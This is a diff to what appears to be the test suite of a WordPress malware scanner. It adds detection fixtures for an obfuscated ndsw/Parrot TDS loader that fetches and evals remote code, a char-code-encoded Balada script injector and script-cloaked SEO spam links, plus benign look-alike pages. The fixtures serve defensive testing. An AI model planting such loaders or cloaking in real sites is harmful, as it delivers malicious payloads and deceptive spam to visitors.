@@ -102,6 +102,21 @@ NDSW_OBFUSCATED = (
     "_0x4a5b(0x1a7),location.protocol+_0x4a5b(0x1a4)+Math.random());_0x9a0b1c.onload="
     "function(){var _0x0b1c2d=_0x9a0b1c[_0x4a5b(0x1a2)];window[_0x4a5b(0x1a5)](_0x0b1c2d);};"
     "_0x9a0b1c[_0x4a5b(0x1a8)]();}}());</script>")
+# ndsw's later form: javascript-obfuscator's string table and rotation with its `_0x`
+# names renamed to letters by a minifier, the table's words cut in pieces
+# (Sucuri's and Palo Alto's ndsw/ndsx write-ups show it appended to themes' scripts)
+NDSW_RENAMED = (
+    "<script>;if(ndsw===undefined){function g(a,b){var t=V();return g=function(i,k){i=i-0x64;"
+    "var s=t[i];return s;},g(a,b);}function V(){var v=['refer','rer','respo','nseTe','xt',"
+    "'eval','cooki','e','//www.lakeside-bakery.test/wp-content/plugins/contact-form-7/"
+    "includes/js/jquery.php','?id=','ndsx','GET','open','send','index','Of','70QzKf'];V=function()"
+    "{return v;};return V();}(function(a,b){var l=g,t=a();while(!![]){try{var n=parseInt(l("
+    "0x74))/0x1;if(n===b)break;else t['push'](t['shift']());}catch(e){t['push'](t['shift']());}}"
+    "}(V,0x46));var ndsw=true;(function(){var Y=g,G=document,O=window,P=G[Y(0x6a)+Y(0x6b)],f=G["
+    "Y(0x64)+Y(0x65)];if(f&&!i(f,O['location']['hostname'])&&!P){var x=new XMLHttpRequest();x["
+    "Y(0x70)](Y(0x6f),Y(0x6c)+Y(0x6d)+Math.random(),true);x.onload=function(){var E=x[Y(0x66)+"
+    "Y(0x67)+Y(0x68)];i(E,Y(0x6e))&&O[Y(0x69)](E);};x[Y(0x71)](null);}function i(E,L){return E["
+    "Y(0x72)+Y(0x73)](L)!==-0x1;}}());};</script>")
 # Sign1: referrer tested against search and social sites, a cookie so it fires once, an
 # XOR-decoded address that changes every ten minutes (Sucuri, 2024)
 SIGN1_LOADER = (
@@ -134,6 +149,15 @@ BALADA_SRC = (
 BALADA_EVAL = ("<script>eval(String.fromCharCode(" + _codes(
     "var e=document.createElement('script');e.src='https://cdn.dataanalyticsmetrics.test/"
     "v2.js?ref='+location.hostname;document.head.appendChild(e);") + "));</script>")
+# Balada's wp_options form: the element's tag and its type are char codes too, so no
+# `createElement('script')` says what the decoded address is loaded into
+BALADA_CODED_TAG = (
+    "<script type=text/javascript> Element.prototype.putAfter = function(el) {el.parentNode"
+    ".insertBefore(this, el.nextSibling);}, false;(function() { var el = document.createElement("
+    f"String.fromCharCode({_codes('script')})); el.type = String.fromCharCode("
+    f"{_codes('text/javascript')}); el.src = String.fromCharCode("
+    f"{_codes('https://pkg.weathertilesync.test/w/track?v=4')});el.putAfter(document."
+    f"getElementsByTagName(String.fromCharCode({_codes('script')}))[0]);}})();</script>")
 # SocGholish: an async loader whose address is base64
 SOCGHOLISH = (
     "<script>;(function(d,t){var s=d.createElement(t);s.async=true;s.src=atob('"
@@ -191,6 +215,14 @@ CASINO_LINKS = (
     '<div style="position:absolute;left:-9999px;top:-9999px"><a href="https://best-online-'
     'casino.test/">online casino</a> <a href="https://slots-bonus.test/free-spins">free spins'
     '</a> <a href="https://cheap-pills-rx.test/viagra">buy viagra</a></div>')
+# an SEO kit's one link, moved off-screen by a rule the script beside it adds to the head,
+# the element's name in pieces (MD Pabel's and Sucuri's write-ups of "CSS hidden" spam)
+SCRIPT_HIDDEN_LINK = (
+    '<div id="qW3rtY9uIopAs"><p><a href="https://cheap-meds-online.test/">look here</a></p>'
+    "</div><script>function zx(){var h=document.getElementsByTagName('he'+'ad')[0];var r="
+    "'#qW3rtY9uIopAs{position:fixed;overflow:hidden;top:-90817263px;z-index:9981;}';var st="
+    "document.createElement('sty'+'le');st.type='text/css';st.appendChild(document."
+    "createTextNode(r));h.appendChild(st);}zx();</script>")
 PHARMA_FONT0 = (
     '<p style="font-size:0;line-height:0"><a href="https://casino-royale-bonus.test/">casino'
     '</a><a href="https://replica-watches-shop.test/">watches</a><a href="https://essay-'
@@ -233,6 +265,8 @@ SKIM_JQUERY_AJAX = (
 FAMILIES: list[tuple[str, dict[str, str], tuple[str, Severity]]] = [
     ("ndsw / Parrot TDS, plain, wp_footer", {"footer": NDSW}, ("tds-loader", H)),
     ("ndsw / Parrot TDS, obfuscated, wp_footer", {"footer": NDSW_OBFUSCATED}, ("tds-loader", H)),
+    ("ndsw / Parrot TDS, string table renamed, wp_footer", {"footer": NDSW_RENAMED},
+     ("tds-loader", H)),
     ("Sign1 XOR loader, Custom HTML widget", {"widget": SIGN1_LOADER}, ("tds-loader", H)),
     ("Sign1-style cookie and time gated redirect, widget", {"widget": SIGN1_REDIRECT},
      ("redirect", H)),
@@ -240,6 +274,7 @@ FAMILIES: list[tuple[str, dict[str, str], tuple[str, Severity]]] = [
     ("Keitaro JS integration, head", {"head": KEITARO}, ("tds-loader", M)),
     ("Balada fromCharCode src, head", {"head": BALADA_SRC}, ("obfuscated-script", H)),
     ("Balada eval(fromCharCode), in the post", {"post": BALADA_EVAL}, ("obfuscated-script", H)),
+    ("Balada char-code tag and src, head", {"head": BALADA_CODED_TAG}, ("obfuscated-script", H)),
     ("SocGholish atob loader, wp_footer", {"footer": SOCGHOLISH}, ("obfuscated-script", H)),
     ("fake browser update overlay", {"body_top": FAKE_UPDATE}, ("fake-update", H)),
     ("ClickFix clipboard.writeText", {"body_top": CLICKFIX_WRITE}, ("clipboard-command", H)),
@@ -252,6 +287,12 @@ FAMILIES: list[tuple[str, dict[str, str], tuple[str, Severity]]] = [
      ("form-skimmer", H)),
     ("push 'click Allow, not a robot' bait", {"body_top": PUSH_BAIT}, ("notification-bait", H)),
     ("SEO casino links off-screen, wp_footer", {"footer": CASINO_LINKS}, ("hidden-links", H)),
+    ("SEO link off-screen by a rule its script writes, wp_footer", {"footer": SCRIPT_HIDDEN_LINK},
+     ("hidden-links", H)),
+    ("SEO link hidden by a rule its script writes, in the post", {"post": (
+        '<span class="k7mz2"><a href="https://replica-bags-outlet.test/">bags</a></span><script>'
+        "var s=document.createElement('style');s.textContent='.k7mz2{display:none}';document."
+        "head.appendChild(s);</script>")}, ("hidden-links", H)),
     ("SEO links at font-size 0, in the post", {"post": PHARMA_FONT0}, ("hidden-links", H)),
     ("CoinHive-style miner, wp_footer", {"footer": MINER}, ("cryptominer", H)),
     ("0x0 iframe in a widget", {"widget": FRAME_ZERO}, ("hidden-iframe", H)),
@@ -288,6 +329,16 @@ def test_the_clean_page_has_no_finding(audit_listed: AuditListed) -> None:
 # nothing at random, a breaking-news push prompt, Chrome's own download page link, a
 # language redirect behind a cookie, a CDN failover among one vendor's mirrors.
 TWINS: list[tuple[str, dict[str, str]]] = [
+    ("a notice a script hides once it runs, its one link in prose", {"footer": (
+        '<div id="js-warning"><p>This timetable works best with JavaScript on; the printable '
+        'version is at <a href="https://timetables.ferrylink.test/print">the operator\'s site'
+        "</a> if it does not load.</p></div><script>var st=document.createElement('style');"
+        "st.textContent='#js-warning{display:none}';document.head.appendChild(st);</script>")}),
+    ("a drawer menu a script writes closed, opened by a visible button", {"body_top": (
+        '<button aria-controls="partners" aria-expanded="false">Our partners</button>'
+        '<ul id="partners"><li><a href="https://ferrylink.test/">Ferrylink</a></li></ul>'
+        "<script>var st=document.createElement('style');st.textContent='#partners{display:none}"
+        " #partners.open{display:block}';document.head.appendChild(st);</script>")}),
     ("font cache evals what it fetched", {"head": (
         "<script>(function(){var xhr=new XMLHttpRequest;xhr.open('GET','/fonts/gazette.json',"
         "true);xhr.onreadystatechange=function(){if(xhr.readyState===4&&xhr.status===200){"
